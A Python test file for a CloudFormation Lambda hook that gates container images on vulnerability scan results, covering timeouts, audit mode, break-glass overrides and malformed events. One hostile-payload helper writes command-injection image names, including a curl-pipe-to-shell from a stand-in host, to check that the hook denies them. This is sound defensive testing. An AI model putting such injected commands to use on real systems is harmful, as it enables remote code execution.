"""The CloudFormation Lambda hook over the scan cache and ECR in moto: images from the resource
properties, waits inside its 30 s budget, callbackContext across rounds, the last round settled
per GATE_ON_TIMEOUT, and every hostile payload answered."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from dispatcher.gate import cfn_hook
from dispatcher.gate.answer import stamp
from dispatcher.gate.breakglass import BreakGlass
from dispatcher.gate.runtime import lambda_runtime
from dispatcher.gate.settings import GateSettings
from tests.dispatcher.conftest import ECR, REGION, RecordingLauncher, push_ecr_image
from tests.dispatcher.gatekit import NOW, REPORT, Clock, in_flight, payload, record, runtime

MOTO = "123456789012"  # the account moto's own resources live in
MOTO_ECR = f"{MOTO}.dkr.ecr.{REGION}.amazonaws.com"
PROXY = f"{ECR}/shop/proxy@sha256:" + "5d" * 32
RENDERER = f"{ECR}/billing/renderer@sha256:" + "6e" * 32
TOKEN = "4d9e1f7a-6b2c-4a8d-b3e5-9f0c1d2e3a4b"


def task_definition(*images: str, invocation: Any = 1, context: Any = None) -> Any:
    event = payload("gate-cfn-hook-task-definition.json")
    event["requestData"]["targetModel"]["resourceProperties"]["ContainerDefinitions"] = [
        {"Name": f"c{n}", "Image": image} for n, image in enumerate(images)
    ]
    event["requestContext"] = {"invocation": invocation, "callbackContext": context}
    return event


def test_the_task_definition_images_are_resolved_and_allowed(dynamodb: Any) -> None:
    digest = push_ecr_image("shop/checkout", "2.4.0", region=REGION)
    record(dynamodb, f"{MOTO_ECR}/shop/checkout:2.4.0@{digest}", "passed")
    record(dynamodb, PROXY, "passed")
    run = runtime(dynamodb)
    response = cfn_hook.answer(task_definition(f"{MOTO_ECR}/shop/checkout:2.4.0", PROXY), run)
    assert response["hookStatus"] == "SUCCESS", response["message"]
    assert response["clientRequestToken"] == TOKEN
    assert digest in response["message"] and PROXY in response["message"]


def test_the_fixture_as_written_asks_for_both_containers(dynamodb: Any) -> None:
    launcher = RecordingLauncher()
    response = cfn_hook.answer(
        payload("gate-cfn-hook-task-definition.json"), runtime(dynamodb, launcher=launcher)
    )
    # The app's tag is in an account moto has no repository for: no digest, answered on error.
    assert response["hookStatus"] == "FAILED"
    assert response["errorCode"] == "NonCompliant"
    assert "ECR has no image with this tag" in response["message"]
    assert [r.trigger for r in launcher.requests] == ["gate:cfn-hook"]  # the proxy's scan


def test_an_image_function_is_denied_with_its_report(dynamodb: Any) -> None:
    record(dynamodb, RENDERER, "failed", critical=1)
    response = cfn_hook.answer(payload("gate-cfn-hook-function.json"), runtime(dynamodb))
    assert (response["hookStatus"], response["errorCode"]) == ("FAILED", "NonCompliant")
    assert "critical 1" in response["message"] and REPORT in response["message"]


@pytest.mark.parametrize(
    ("target", "properties"),
    [
        ("AWS::S3::Bucket", {"BucketName": "x"}),
        ("AWS::ECS::TaskDefinition", {}),  # a delete: no properties
    ],
)
def test_a_resource_without_an_image_passes(
    dynamodb: Any, target: str, properties: dict[str, Any]
) -> None:
    event = payload("gate-cfn-hook-function.json")
    event["requestData"].update(targetType=target, targetName=target)
    event["requestData"]["targetModel"]["resourceProperties"] = properties
    response = cfn_hook.answer(event, runtime(dynamodb))
    assert response["hookStatus"] == "SUCCESS"
    assert "no image to check" in response["message"]


def test_it_waits_inside_its_budget_for_a_running_scan(dynamodb: Any) -> None:
    in_flight(dynamodb, PROXY)
    clock = Clock()

    def sleep(seconds: float) -> None:
        clock.sleep(seconds)
        if len(clock.slept) == 2:  # the scan finishes during the second wait
            record(dynamodb, PROXY, "passed", at=clock.now)

    run = replace(runtime(dynamodb, clock=clock), sleep=sleep)
    response = cfn_hook.answer(task_definition(PROXY), run)
    assert response["hookStatus"] == "SUCCESS"
    assert clock.slept == [cfn_hook.POLL_SECONDS] * 2


def test_a_scan_running_past_the_budget_answers_in_progress_with_its_context(
    dynamodb: Any,
) -> None:
    in_flight(dynamodb, PROXY)
    clock = Clock()
    response = cfn_hook.answer(task_definition(PROXY), runtime(dynamodb, clock=clock))
    assert response["hookStatus"] == "IN_PROGRESS"
    assert response["callbackContext"] == {"firstSeen": stamp(NOW)}
    assert response["callbackDelaySeconds"] == cfn_hook.CALLBACK_DELAY
    assert clock.now - NOW <= cfn_hook.BUDGET_SECONDS  # answered inside CloudFormation's 30 s


@pytest.mark.parametrize(("on_timeout", "status"), [("allow", "SUCCESS"), ("deny", "FAILED")])
def test_the_last_round_settles_a_running_scan_per_gate_on_timeout(
    dynamodb: Any, on_timeout: str, status: str
) -> None:
    in_flight(dynamodb, PROXY)
    gate = GateSettings(mode="enforce", scanner="qscanner", on_timeout=on_timeout)
    event = task_definition(PROXY, invocation=3, context={"firstSeen": stamp(NOW - 70)})
    response = cfn_hook.answer(event, runtime(dynamodb, gate))
    assert response["hookStatus"] == status
    assert f"GATE_ON_TIMEOUT={on_timeout}" in response["message"]


@pytest.mark.parametrize(("on_timeout", "status"), [("allow", "SUCCESS"), ("deny", "FAILED")])
def test_a_scan_running_past_the_max_wait_settles_before_the_last_round(
    dynamodb: Any, on_timeout: str, status: str
) -> None:
    in_flight(dynamodb, PROXY)
    gate = GateSettings(
        mode="enforce", scanner="qscanner", max_wait_minutes=1, on_timeout=on_timeout
    )
    event = task_definition(PROXY, invocation=2, context={"firstSeen": stamp(NOW - 61)})
    assert cfn_hook.answer(event, runtime(dynamodb, gate))["hookStatus"] == status


@pytest.mark.parametrize(("on_error", "status"), [("allow", "SUCCESS"), ("deny", "FAILED")])
def test_a_scan_error_takes_gate_on_error(dynamodb: Any, on_error: str, status: str) -> None:
    record(dynamodb, PROXY, "error", at=NOW - 5)
    gate = GateSettings(mode="enforce", scanner="qscanner", on_error=on_error)
    event = task_definition(PROXY, invocation=2, context={"firstSeen": stamp(NOW - 40)})
    response = cfn_hook.answer(event, runtime(dynamodb, gate))
    assert response["hookStatus"] == status
    assert "the last scan ended in error" in response["message"]


def test_audit_mode_never_blocks(dynamodb: Any) -> None:
    record(dynamodb, RENDERER, "failed", critical=1)
    gate = GateSettings(mode="audit", scanner="syft")
    response = cfn_hook.answer(payload("gate-cfn-hook-function.json"), runtime(dynamodb, gate))
    assert response["hookStatus"] == "SUCCESS"
    assert "audit mode: would have blocked 1" in response["message"]
    assert "no vulnerability data" in response["message"]


@pytest.mark.parametrize(("expires", "status"), [(NOW + 60, "SUCCESS"), (NOW - 60, "FAILED")])
def test_break_glass_by_digest_until_it_expires(dynamodb: Any, expires: float, status: str) -> None:
    record(dynamodb, RENDERER, "failed", critical=1)
    entry = BreakGlass("", "sha256:" + "6e" * 32, expires, "CHG-88 approved by security")
    response = cfn_hook.answer(
        payload("gate-cfn-hook-function.json"), runtime(dynamodb, breakglass=(entry,))
    )
    assert response["hookStatus"] == status


def hostile() -> list[Any]:
    unresolved = task_definition(PROXY)
    unresolved["requestData"]["targetModel"]["resourceProperties"]["ContainerDefinitions"] = [
        {"Name": "app", "Image": {"Fn::Sub": "${Repo}:latest"}}
    ]
    shell = task_definition("repo:$(curl evil|sh)", "x;y", "`id`")
    huge = task_definition(*[f"{ECR}/r{n}:1" for n in range(500)])
    wrong = payload("gate-cfn-hook-function.json", requestContext="nope", requestData=[1, 2])
    cut = payload("gate-cfn-hook-function.json")
    del cut["requestData"]["targetModel"]
    return [None, "x", [], {}, unresolved, shell, huge, wrong, cut]


@pytest.mark.parametrize("event", hostile())
def test_a_hostile_payload_is_answered_never_raised(dynamodb: Any, event: Any) -> None:
    launcher = RecordingLauncher()
    response = cfn_hook.answer(event, runtime(dynamodb, launcher=launcher))
    json.dumps(response)
    # Enforce mode, GATE_ON_ERROR=deny: a malformed payload or image is denied, never let through.
    assert response["hookStatus"] == "FAILED"
    assert "GATE_ON_ERROR=deny" in response["message"]
    assert len(response["message"]) <= cfn_hook.MESSAGE_LIMIT
    assert launcher.requests == []


def test_another_resource_type_has_nothing_to_check(dynamodb: Any) -> None:
    event = payload("gate-cfn-hook-function.json")
    event["requestData"]["targetType"] = "AWS::S3::Bucket"
    event["requestData"]["targetModel"]["resourceProperties"] = {"BucketName": "logs"}
    response = cfn_hook.answer(event, runtime(dynamodb))
    assert response["hookStatus"] == "SUCCESS"
    assert "no image to check" in response["message"]


def test_the_lambda_handler_answers_even_when_misconfigured(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("SCAN_CACHE_TABLE", raising=False)
    monkeypatch.setenv("GATE_MODE", "enforce")
    lambda_runtime.cache_clear()
    response = cfn_hook.handler(payload("gate-cfn-hook-function.json"), None)
    assert (response["hookStatus"], response["errorCode"]) == ("FAILED", "InternalFailure")
    assert response["clientRequestToken"] == "c3a1e5f7-2b4d-4c6e-8f0a-1b3d5f7a9c2e"
    assert "misconfigured" in response["message"]
